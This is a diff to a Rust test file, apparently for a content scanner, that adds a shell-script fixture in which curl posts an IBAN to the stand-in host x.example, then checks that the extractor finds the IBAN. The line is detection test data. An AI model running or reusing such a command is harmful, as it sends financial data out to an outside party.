@@ -476,6 +476,12 @@ fn kinds_without_text_and_ole() {
     ] {
         assert!(text(kind, b"anything", MAX).unwrap().is_none(), "{kind}");
     }
+    let script = format!("#!/bin/sh\ncurl -d '{IBAN}' https://x.example/\n");
+    assert_has(
+        &extract(script.as_bytes(), FileKind::Script),
+        IBAN,
+        "script",
+    );
     let err = text(FileKind::Ole, b"\xd0\xcf\x11\xe0", MAX).unwrap_err();
     assert!(matches!(err, ExtractError::Unreadable { .. }), "{err}");
 }
